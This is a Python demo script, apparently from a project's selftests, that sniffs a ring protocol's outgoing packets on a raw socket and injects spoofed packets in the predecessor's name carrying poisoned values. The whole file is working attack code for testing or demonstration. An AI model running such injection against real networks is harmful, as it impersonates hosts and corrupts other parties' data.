#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""attacker.py DEVICE: a host on the path of a ring, for scripts/demo. It sees what goes to the rank
behind DEVICE, and for each chunk it sends one of the operation after the next in the name of the
predecessor, with elements of its own: the same packet as the one that it saw, but for these.

It ends with SIGTERM, and prints how many packets it has sent.
"""
import pathlib
import signal
import socket
import struct
import sys

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[2] / "selftests/lib"))
from rarpkt import RS, Packet                       # noqa: E402

HEADER, DATA_HEADER, TAIL = 24, 64, 24
AHEAD = 2               # operations: the one between is of another kind
sent = 0


def stop(*_):
    """Say how much was sent, and end."""
    print(sent, flush=True)
    sys.exit(0)


def first_packet(rar):
    """The first packet of a superpacket, with its seal if it has one"""
    size = HEADER + struct.unpack_from(">H", rar, 6)[0]
    sealed = len(rar) >= size + TAIL and rar[size + 8:size + 24] != rar[8:24]
    return rar[:size + TAIL] if sealed else rar[:size]


def forged(rar, ahead):
    """The same chunk of a later operation, with elements of 1e6"""
    end = HEADER + struct.unpack_from(">H", rar, 6)[0]
    seq, una, op = struct.unpack_from(">IIQ", rar, HEADER)
    numbers = struct.pack(">IIQ", seq + 40 * ahead & 0xffffffff, una, op + ahead)
    elements = struct.pack("=f", 1e6) * ((end - DATA_HEADER) // 4)
    return rar[:HEADER] + numbers + rar[40:DATA_HEADER] + elements + rar[end:]


def main():
    """Watch, and forge."""
    global sent
    device = sys.argv[1]
    tap = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    tap.bind((device, 3))
    signal.signal(signal.SIGTERM, stop)
    while True:
        frame, (_, _, direction, *_) = tap.recvfrom(70000)
        below = Packet.parse(frame)
        if not below or below.type != RS or direction != socket.PACKET_OUTGOING:
            continue
        rar = first_packet(frame[42:34 + struct.unpack_from(">H", frame, 38)[0]])
        fake = Packet(eth=below.eth, src=below.src, dst=below.dst, sport=below.sport,
                      dport=below.dport, raw=forged(rar, AHEAD))
        tap.send(fake.frame())
        sent += 1


main()
